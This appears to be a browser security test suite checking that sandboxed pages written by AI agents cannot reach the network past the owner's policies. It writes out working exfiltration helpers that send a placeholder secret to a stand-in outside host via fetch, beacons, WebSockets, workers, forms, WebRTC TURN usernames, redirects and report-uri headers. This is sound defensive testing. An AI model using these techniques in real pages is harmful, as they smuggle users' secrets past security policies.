// Pages that agents wrote try to reach the network through the owner's browser.
// Each attempt is made twice: with what holds it taken out of the answers, where
// it must arrive, and with it, where it must not.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { once } from "node:events";
import { createInterface } from "node:readline";
import { after, before, describe, test } from "node:test";
import { openBrowser, PATIENCE_MS } from "../lib/browser.js";
import { startChoir } from "../lib/choir.js";
import { enterDesktop, frameOf } from "../lib/desktop.js";
import { within } from "../lib/limits.js";
import { startLine, startOutside } from "../lib/outside.js";
import { skip } from "../lib/rig.js";
import { desktopAPI, openWindow, writeFile } from "../lib/windows.js";

const POLICY = "Content-Security-Policy";
const ALLOWLIST = "Connection-Allowlist";

const it = {};
if (!skip) {
  before(async () => {
    it.outside = await startOutside();
    it.choir = await startChoir();
    it.line = await startLine(new URL(it.choir.address).port);
    const rules = `--host-resolver-rules=${it.outside.rule}, ${it.line.rule}`;
    Object.assign(it, await openBrowser({ stock: true, flags: [rules] }));
    it.page.setDefaultTimeout(PATIENCE_MS);
    await it.page.goto(it.choir.login);
    await enterDesktop(it.page);
  });
  after(async () => {
    const ends = [() => it.close?.(), () => it.line?.stop(), () => it.choir?.stop(), () => it.outside?.stop()];
    for (const end of ends) await end();
  });
}

/** Opens the desktop anew, its answers without some headers. */
async function desktopWithout(...headers) {
  it.line.off.clear();
  for (const name of headers) it.line.off.add(name);
  await it.page.reload();
  return enterDesktop(it.page);
}

/** Runs in a page: asks a TURN server for a relay under a name that is the secret. */
async function relay([urls, username]) {
  const peer = new RTCPeerConnection({ iceServers: [{ urls, username, credential: "x" }] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
}

/** Runs in a page: has the browser connect to a host before it asks for anything. */
function preconnect(address) {
  document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: address }));
}

/** Runs in a page: everything a page can ask for elsewhere without leaving. */
function reachOut([address, mark]) {
  const to = (what) => `${address}/${mark}-${what}?WORKSPACE-SECRET`;
  fetch(to("fetch")).catch(() => undefined);
  new Image().src = to("img");
  navigator.sendBeacon(to("beacon"), "x");
  try {
    new WebSocket(to("socket").replace("http", "ws"));
  } catch {
    // It is refused at once.
  }
  const code = `fetch("${to("worker")}").catch(() => undefined)`;
  new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  const frame = document.createElement("iframe");
  frame.src = to("frame");
  document.body.append(frame);
  const form = Object.assign(document.createElement("form"), { action: to("form"), method: "POST", target: "inner" });
  const inner = Object.assign(document.createElement("iframe"), { name: "inner" });
  document.body.append(inner, form);
  form.submit();
}

/** What a page asks for without leaving. */
const ways = ["fetch", "img", "beacon", "socket", "worker", "frame", "form"];

/** A server that answers as a hostile one: with a page, and headers that speak to the browser. */
const server = (outside) => `
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path = self.path.split("?")[0]
        if path == "/away":
            self.send_response(302)
            self.send_header("Location", "${outside}/redirect?WORKSPACE-SECRET")
            self.end_headers()
            return
        if path == "/here":
            self.send_response(302)
            self.send_header("Location", "/arrived")
            self.end_headers()
            return
        if path == "/early":
            self.wfile.write(b"HTTP/1.1 103 Early Hints\\r\\nLink: <${outside}/early>; rel=preload; as=fetch\\r\\n\\r\\n")
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if path.endswith(".js") else "text/html")
        self.send_header("Link", "<${outside}/link>; rel=preload; as=script, <${outside}/link2>; rel=prefetch")
        self.send_header("Content-Security-Policy", "img-src 'none'; report-uri ${outside}/report-uri")
        self.send_header("Content-Security-Policy-Report-Only", "default-src 'none'; report-uri ${outside}/report-only")
        if path == "/refresh":
            self.send_header("Refresh", "0; url=${outside}/refresh")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>app</title><p id=app>the app " + path.encode())
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
print("serves at", s.server_port, flush=True)
s.serve_forever()
`;

/**
 * Where a browser is led by each answer of the server when no gateway stands between.
 * An answer of status 103 leads Chromium nowhere over HTTP/1.1; what it does to the
 * policy is looked at in internal/control/gateway.
 */
const straight = [
  ["/", ["/link", "/link2", "/report-uri", "/report-only"]],
  ["/away", ["/redirect?"]],
  ["/refresh", ["/refresh"]],
];

/** Runs in a page: asks for what its policies forbid, which a browser reports to where they say. */
function loadBlocked() {
  new Image().src = "/picture";
}

/** Starts the server on the host, where no gateway changes its answers. */
async function serveOnTheHost() {
  const child = spawn("python3", ["-u", "-c", server(it.outside.address)], { stdio: ["ignore", "pipe", "inherit"] });
  const ended = once(child, "exit");
  // A line may arrive in pieces.
  const [said] = await within(once(createInterface({ input: child.stdout }), "line"), "a word of the server");
  return {
    address: `http://127.0.0.1:${/serves at (\d+)/.exec(said)[1]}`,
    async stop() {
      child.kill();
      await within(ended, "the end of the server");
    },
  };
}

/** Starts the server in a terminal; gives its port. */
async function serve() {
  await writeFile(it.page, "workspace/serve.py", server(it.outside.address));
  await desktopAPI(it.page, "/settings", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ key: "terminal.reader", value: "on" }),
  });
  const { win } = await openWindow(it.page, "terminal");
  await win.locator(".terminal-host[data-link=live]").waitFor();
  await win.locator(".xterm-helper-textarea").focus();
  await it.page.keyboard.type("python3 -u serve.py");
  await it.page.keyboard.press("Enter");
  const said = win.locator(".xterm-accessibility-tree").getByText(/serves at \d+/);
  return Number(/serves at\s(\d+)/.exec(await said.first().innerText())[1]);
}

/** Frames a preview as a rewritten desktop does, with no act of the owner; gives its frame. */
async function preview(path = "/") {
  it.port ??= await serve();
  const desktop = await frameOf(it.page);
  await desktop.evaluate(async (port) => {
    const [computer] = location.host.split(".");
    const answer = await fetch(`/api/computers/${computer}/previews`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ port }),
    });
    const { url } = await answer.json();
    document.querySelector("#hostile")?.remove();
    const frame = Object.assign(document.createElement("iframe"), { id: "hostile", src: url });
    document.body.append(frame);
  }, it.port);
  const frame = await (await desktop.locator("#hostile").elementHandle()).contentFrame();
  await frame.locator("#app").waitFor();
  if (path !== "/") {
    await frame.goto(new URL(path, frame.url()).href).catch(() => undefined);
  }
  return frame;
}

describe("a hostile desktop", () => {
  test("without its policies, everything it asks for arrives outside", { skip }, async () => {
    const frame = await desktopWithout(POLICY, ALLOWLIST);
    await frame.evaluate(reachOut, [it.outside.address, "desktop-off"]);
    for (const way of ways) assert.ok(await it.outside.arrived(`/desktop-off-${way}?`), way);
    await frame.evaluate((to) => location.assign(to), `${it.outside.address}/desktop-off-left?WORKSPACE-SECRET`);
    assert.ok(await it.outside.arrived("/desktop-off-left?"), "leaving");
  });

  test("without its allowlist, WebRTC and preconnects reach outside", { skip }, async () => {
    const frame = await desktopWithout(ALLOWLIST);
    await frame.evaluate(relay, [it.outside.turn, "DESKTOP-SECRET-OFF"]);
    assert.ok(await it.outside.arrived("DESKTOP-SECRET-OFF"));
    await frame.evaluate(preconnect, it.outside.knock);
    assert.ok(await it.outside.arrived("connected"), "a preconnect");
  });

  test("it reaches nobody, by any way", { skip }, async () => {
    const frame = await desktopWithout();
    const before = it.outside.seen.length;
    await frame.evaluate(reachOut, [it.outside.address, "desktop"]);
    await frame.evaluate(relay, [it.outside.turn, "DESKTOP-SECRET"]);
    await frame.evaluate(preconnect, it.outside.knock);
    assert.equal(await it.outside.arrived("nothing at all"), false);
    assert.deepEqual(it.outside.seen.slice(before), []);
  });

  test("a click of the owner in it opens no window", { skip }, async () => {
    const { page, context } = it;
    const frame = await desktopWithout();
    const before = [it.outside.seen.length, context.pages().length];
    await frame.evaluate((to) => {
      const open = () => {
        globalThis.clicked = true;
        window.open(to);
      };
      addEventListener("click", open, { once: true, capture: true });
    }, `${it.outside.address}/popup?WORKSPACE-SECRET`);
    await page.mouse.click(700, 300);
    assert.equal(await frame.evaluate(() => globalThis.clicked), true, "the click did not reach it");
    assert.equal(await it.outside.arrived("/popup?"), false);
    assert.deepEqual([it.outside.seen.length, context.pages().length], before);
  });

  test("it cannot leave for elsewhere with what it knows", { skip }, async () => {
    const frame = await desktopWithout();
    await frame.evaluate((to) => location.assign(to), `${it.outside.address}/left?WORKSPACE-SECRET`);
    assert.equal(await it.outside.arrived("/left?"), false);
  });
});

describe("what the shell says of the sandboxes", () => {
  test("is that their programs have no network, as long as choir.toml lets nothing out", { skip }, async () => {
    await it.page.reload();
    await it.page.getByRole("button", { name: /Sandboxed/ }).click();
    await it.page.getByText("Their programs have no network but the model gateway and the bus").waitFor();
    await it.page.keyboard.press("Escape");
  });
});

describe("a browser that does not hold pages", () => {
  /** What the shell says of pages in this browser. */
  const said = async () => {
    await it.page.reload();
    await it.page.getByRole("button", { name: /Sandboxed/ }).click();
    const words = it.page.getByText("Pages in this browser").locator("xpath=following-sibling::dd");
    return await words.innerText();
  };

  test("is named where the level is shown", { skip }, async () => {
    it.line.off.clear();
    assert.equal(await said(), "The desktop and previews are held to this computer.");
    it.line.off.add(ALLOWLIST);
    assert.match(await said(), /^This browser \(Chromium\) does not hold WebRTC back: a page your agents wrote can/);
  });
});

describe("a hostile preview", () => {
  test("without its policies, everything it asks for arrives outside", { skip }, async () => {
    await desktopWithout(POLICY, ALLOWLIST);
    const frame = await preview();
    await frame.evaluate(reachOut, [it.outside.address, "preview-off"]);
    for (const way of ways) assert.ok(await it.outside.arrived(`/preview-off-${way}?`), way);
  });

  test("straight from its server, each of its headers leads the browser outside", { skip }, async () => {
    const host = await serveOnTheHost();
    const page = await it.context.newPage();
    try {
      for (const [path, ways] of straight) {
        it.outside.seen.length = 0;
        // A browser that is led elsewhere has not loaded what it was sent to.
        await page.goto(`${host.address}${path}`).catch(() => undefined);
        await page.evaluate(loadBlocked).catch(() => undefined);
        for (const way of ways) assert.ok(await it.outside.arrived(way), `${path}: ${way}`);
      }
    } finally {
      await page.close();
      await host.stop();
    }
  });

  test("without its allowlist, WebRTC carries its words outside", { skip }, async () => {
    await desktopWithout(ALLOWLIST);
    const frame = await preview();
    await frame.evaluate(relay, [it.outside.turn, "PREVIEW-SECRET-OFF"]);
    assert.ok(await it.outside.arrived("PREVIEW-SECRET-OFF"));
  });

  test("it reaches nobody, by any way, and its own server as before", { skip }, async () => {
    await desktopWithout();
    const before = it.outside.seen.length;
    const frame = await preview();
    assert.match(await frame.evaluate(async () => await (await fetch("/own")).text()), /the app \/own/);
    assert.match(await frame.evaluate(async () => await (await fetch("/here")).text()), /the app \/arrived/);
    await frame.evaluate(reachOut, [it.outside.address, "preview"]);
    await frame.evaluate(relay, [it.outside.turn, "PREVIEW-SECRET"]);
    await frame.evaluate(preconnect, it.outside.knock);
    await frame.evaluate(loadBlocked);
    await frame.evaluate(() => fetch("/away").catch(() => undefined));
    assert.equal(await it.outside.arrived("nothing at all"), false);
    assert.deepEqual(it.outside.seen.slice(before), []);
  });

  for (const path of ["/away", "/refresh", "/early"])
    test(`its server leads the browser nowhere else with ${path}`, { skip }, async () => {
      await desktopWithout();
      const before = it.outside.seen.length;
      const frame = await preview(path);
      await frame.evaluate(loadBlocked).catch(() => undefined); // of a page that was not loaded
      assert.equal(await it.outside.arrived("nothing at all"), false);
      assert.deepEqual(it.outside.seen.slice(before), []);
    });

  test("it gets no service worker, which would outlive its server", { skip }, async () => {
    await desktopWithout();
    const frame = await preview();
    const outcome = await frame.evaluate(() =>
      navigator.serviceWorker.register("/sw.js").then(
        () => "registered",
        (error) => error.name,
      ),
    );
    assert.notEqual(outcome, "registered");
  });
});
